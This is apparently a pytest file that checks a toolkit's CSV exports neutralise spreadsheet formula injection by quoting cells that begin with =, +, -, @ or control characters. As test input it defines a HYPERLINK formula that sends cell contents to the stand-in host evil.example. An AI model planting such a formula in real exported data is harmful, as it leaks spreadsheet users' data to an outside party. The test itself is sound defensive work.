"""Every CSV the toolkit writes quotes text a spreadsheet would run as a formula (OWASP's rule:
a single quote in front of a cell beginning with =, +, -, @, tab or carriage return)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest

import phota_widgets as pw
from phota_widgets.csv_export import csv_bytes, frame_csv_bytes, safe_cell
from phota_widgets.local import LocalServer
from phota_widgets.widgets.history_tools import runs_csv

KEY = "sk-planted-SECRET-1234567890"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "open me")'


@pytest.fixture
def session(server: LocalServer, tmp_path: Path) -> Iterator[pw.Session]:
    with pw.Session(api_key=KEY, base_url=server.base_url, output_dir=tmp_path / "runs") as s:
        yield s


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (cell, row)


def test_the_shared_helper_quotes_text_and_leaves_numbers() -> None:
    assert safe_cell("=1+2") == "'=1+2" and safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("+cmd") == "'+cmd" and safe_cell("-2+3") == "'-2+3"
    assert safe_cell("\t=x") == "'\t=x" and safe_cell("a = b") == "a = b"
    assert safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    frame = pd.DataFrame({"=name": ["=evil()", "fine"], "score": [-1.25, 2.0]})
    rows = _cells(frame_csv_bytes(frame))
    assert rows == [["'=name", "score"], ["'=evil()", "-1.25"], ["fine", "2.0"]]
    assert _cells(csv_bytes(["a"], [["@x"], [3]])) == [["a"], ["'@x"], ["3"]]


def test_sweep_table_history_and_panel_export_quote_hostile_cells(
    session: pw.Session, tmp_path: Path
) -> None:
    result = session.sweep(
        "generate", prompts=[HOSTILE, "a red house"], aspect_ratio=["1:1", "16:9"], progress=False
    )
    first = result.to_dataframe()["output_id"].iloc[0]
    result.rate(first, 2, note="-1 for the hands", judge="@ana")
    table = result.to_csv(tmp_path / "outputs.csv").read_bytes()
    rows = _cells(table)
    _no_formula(rows)
    header = rows[0]
    assert {"stars", "note", "changed_fraction", "template"} <= set(header)
    prompts = [row[header.index("prompt")] for row in rows[1:]]
    assert "'" + HOSTILE in prompts
    assert "'-1 for the hands" in [row[header.index("note")] for row in rows[1:]]
    # the same columns as the DataFrame, in the same order
    assert header == list(result.to_dataframe().columns)

    history = _cells(runs_csv(session.store.runs()))
    _no_formula(history)
    assert "'" + HOSTILE in [row[history[0].index("prompt")] for row in history[1:]]

    from phota_widgets.widgets.sweep import SweepPanel

    panel = SweepPanel(session)
    try:
        panel.result = result
        files = panel.export(tmp_path / "export").result(timeout=120)
    finally:
        panel.close()
    exported = next(p for p in files if p.name == "outputs.csv")
    _no_formula(_cells(exported.read_bytes()))
